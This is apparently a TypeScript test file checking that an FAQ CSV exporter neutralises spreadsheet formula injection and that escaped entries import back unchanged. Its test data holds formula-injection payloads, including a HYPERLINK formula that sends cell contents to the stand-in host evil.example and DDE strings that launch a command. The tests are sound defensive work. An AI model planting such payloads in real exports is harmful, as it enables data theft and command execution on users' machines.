import Papa from 'papaparse';
import type { FaqEntry } from '../schemas';
import { csvToRows, faqToCsv } from './faqCsv';

function entry(over: Partial<FaqEntry>): FaqEntry {
  return { id: 'f1', category: 'other', question: '问题', similar: [], answer: '答案', actions: [], enabled: true, updatedAt: '2026-12-01T00:00:00.000Z', ...over };
}

/** The cells of the export as a spreadsheet would read them (no formula processing). */
function exportedCells(entries: FaqEntry[]): string[][] {
  return Papa.parse<string[]>(faqToCsv(entries).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
}

const formulas = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', 'question'],
  ['@SUM(1+1)*cmd|\' /C calc\'!A0', 'answer'],
  ['+cmd|\' /C calc\'!A0', 'question'],
  ['-1+1', 'answer'],
  ['\t=1+1 前面是制表符', 'answer'],
  ['\r=1+1', 'answer'],
] as const;

describe('faq CSV export escapes formulas', () => {
  it.each(formulas)('%j in %s starts with a quote in the file, so it is text', (text, field) => {
    const cells = exportedCells([entry({ [field]: text })]);
    const column = cells[0]!.indexOf(field);
    expect(cells[1]![column]).toBe(`'${text}`);
    // No cell of the file starts with a character a spreadsheet evaluates.
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('escapes a similar question and leaves ordinary text, JSON and dates alone', () => {
    const cells = exportedCells([entry({ similar: ['=1+1', '退款'], answer: '退款 3-5 个工作日到账', actions: [{ label: '查看', path: '/pages/x' }] })]);
    const row = Object.fromEntries(cells[0]!.map((h, i) => [h, cells[1]![i]]));
    expect(row).toMatchObject({ similar: "'=1+1|退款", answer: '退款 3-5 个工作日到账', question: '问题', actions: '[{"label":"查看","path":"/pages/x"}]', updatedAt: '2026-12-01T00:00:00.000Z' });
  });

  it('an exported entry imports back to the same text', () => {
    const entries = [
      ...formulas.map(([text, field], i) => entry({ id: `f${i}`, [field]: text })),
      entry({ id: 'q1', question: "'=这是一个以引号开头的问题", answer: "''+两个引号" }),
      entry({ id: 'q2', question: "'普通的引号开头", similar: ['-减号开头', '@提及'] }),
    ];
    const { rows, problems } = csvToRows(faqToCsv(entries));
    expect(problems).toEqual([]);
    expect(rows.map((r) => r.value)).toEqual(
      entries.map((e) => ({ id: e.id, category: e.category, question: e.question, answer: e.answer, similar: e.similar, enabled: true })),
    );
  });

  it('a hand-written file keeps its text: a lone leading quote stays, cells are trimmed as before', () => {
    const csv = "id,category,question,answer\nh1,other,'没有公式的引号, 答案 \n";
    const { rows } = csvToRows(csv);
    expect(rows[0]!.value).toMatchObject({ question: "'没有公式的引号", answer: '答案' });
  });
});
